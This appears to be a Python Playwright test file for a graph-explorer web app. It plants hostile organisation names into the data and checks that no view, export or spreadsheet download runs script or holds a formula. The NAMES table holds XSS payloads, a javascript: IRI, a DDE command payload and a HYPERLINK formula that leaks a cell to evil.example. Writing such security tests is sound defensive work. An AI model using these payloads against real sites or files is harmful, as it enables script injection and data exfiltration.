"""The explorer over a graph whose names attack it: nothing runs in any view or file, no spreadsheet gets a formula."""

import csv
import io
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from urllib.request import urlopen
from xml.etree import ElementTree as ET

import openpyxl
import pytest
from playwright.sync_api import Browser, Page

from browser.conftest import Site
from campuskg.viz import views

_ORG = "https://w3id.org/cmq/id/organisation/"
_LABEL = "<http://www.w3.org/2004/02/skos/core#prefLabel>"
NAMES = {
    "lycee-jules-haag": "<img src=x onerror=window.__ran=1>",
    "lycee-victor-hugo": "</script><script>window.__ran=2</script>",
    "lycee-edgar-faure": "\u202eevil\u2066 \u200f<svg/onload=window.__ran=3>",
    "ensmm": "A" * 10_000 + "\"'><b>",
    "lycee-victor-berard": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "college-diderot": "@SUM(1+1)*cmd|' /C calc'!A0",
}
"""Part of an id -> the name that it gets."""
_MOVED = "lycee-claude-nicolas-ledoux"
_SCRIPT = "javascript:window.__ran=4//"


def planted(text: str) -> str:
    """Return the dataset with hostile names, and one thing whose IRI is a script."""
    lines = []
    for line in text.splitlines():
        for slug, name in NAMES.items():
            if line.startswith(f"<{_ORG}{slug}> {_LABEL} "):
                escaped = name.replace("\\", "\\\\").replace('"', '\\"')
                line = re.sub(r'"(?:[^"\\]|\\.)*"(@\w+)?', lambda m, e=escaped: f'"{e}"{m[1] or ""}', line, count=1)  # noqa: PLW2901
        lines.append(line.replace(f"<{_ORG}{_MOVED}>", f"<{_SCRIPT}>"))
    return "\n".join(lines) + "\n"


@pytest.fixture(scope="module")
def hostile(release_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """Serve the planted graph."""
    file = tmp_path_factory.mktemp("hostile") / "planted.nq"
    text = planted((release_dir / "dataset.nq").read_text(encoding="utf-8"))
    assert all(name[:20].replace('"', '\\"') in text for name in NAMES.values())
    assert f"<{_SCRIPT}>" in text
    file.write_text(text, encoding="utf-8")
    command = [sys.executable, "-m", "campuskg", "serve", str(file), "--port", "0", "--timeout", "60"]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout is not None
        found = next((m for line in process.stdout if (m := re.search(r"http://[\d.]+:\d+", line))), None)
        assert found is not None
        with urlopen(f"{found[0]}/views", timeout=120) as answer:  # noqa: S310  ours
            answer.read()
        try:
            yield Site(found[0], process)
        finally:
            process.terminate()
            process.wait(20)


def walked(page: Page, base: str, path: str) -> None:
    """Open a page, choose what has a hostile name, and see that nothing of it ran."""
    page.goto("about:blank")
    page.goto(base + path)
    if "/views/" in path and "." not in path.split("?", maxsplit=1)[0].rpartition("/")[2]:
        page.wait_for_selector("[data-ready]")
        if "embed=1" not in path:
            page.locator("[data-table] tbody tr").first.wait_for()
    assert page.evaluate("window.__ran") is None, path
    assert page.locator("script:not([src]):not([type='application/json'])").count() == 0 or path.endswith(".html"), path
    assert page.locator("a[href^='javascript']").count() == 0, path
    assert page.locator("main img[src='x'], main b, svg[onload]").count() == 0, path


def test_names_are_only_ever_text(hostile: Site, browser: Browser) -> None:
    context = browser.new_context(viewport={"width": 1280, "height": 900}, locale="fr-FR")
    page = context.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(f"dialog {dialog.message}"))
    for name in views():
        walked(page, hostile.base, f"/views/{name}#all=1")
    for slug in ("lycee-jules-haag", "lycee-victor-hugo", "lycee-edgar-faure", "ensmm"):
        walked(page, hostile.base, f"/views/partnerships?svg=1#all=1&selected=organisation/{slug}")
    walked(page, hostile.base, "/views/partnerships#all=1&selected=" + _SCRIPT.replace("=", "%3D"))
    assert page.locator("[data-detail] h2 a").count() == 0
    page.locator("#ex-search").fill("img")
    page.evaluate("dispatchEvent(new Event('beforeprint'))")
    walked(page, hostile.base, "/views/partnerships?embed=1#all=1")
    for name in views():
        for form in ("svg", "gexf", "graphml"):
            text = page.request.get(f"{hostile.base}/views/{name}.{form}").text()
            elements = list(ET.fromstring(text).iter())  # noqa: S314  ours, and what is looked at
            assert not {one.tag.rpartition("}")[2] for one in elements} & {"script", "img", "foreignObject", "iframe"}
            marks = [(key.rpartition("}")[2], value) for one in elements for key, value in one.items()]
            assert not [key for key, value in marks if key.startswith("on") or (key == "href" and value.startswith("javascript"))]
    assert [url for url in asked if not url.startswith((hostile.base, "about:", "data:", "blob:"))] == []
    context.close()


def test_no_cell_is_a_formula(hostile: Site, browser: Browser) -> None:
    page = browser.new_context(accept_downloads=True, locale="fr-FR").new_page()
    page.goto(f"{hostile.base}/views/partnerships#all=1")
    page.wait_for_selector("[data-ready]")
    page.locator("[data-menu=files] summary").click()
    with page.expect_download() as download:
        page.locator("[data-menu=files]").get_by_role("button", name="CSV", exact=True).click()
    ours = Path(download.value.path()).read_text(encoding="utf-8-sig")
    theirs = page.request.get(f"{hostile.base}/views/partnerships.csv").body().decode("utf-8-sig")
    for text in (ours, theirs):
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert any("HYPERLINK" in cell for cell in cells)
        assert any("@SUM" in cell for cell in cells)
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t"))]
    book = openpyxl.load_workbook(io.BytesIO(page.request.get(f"{hostile.base}/views/partnerships.xlsx").body()))
    values = [cell for row in book.worksheets[0].iter_rows() for cell in row]
    assert any("HYPERLINK" in str(cell.value) for cell in values)
    assert not [cell for cell in values if cell.data_type == "f"]
    page.context.close()
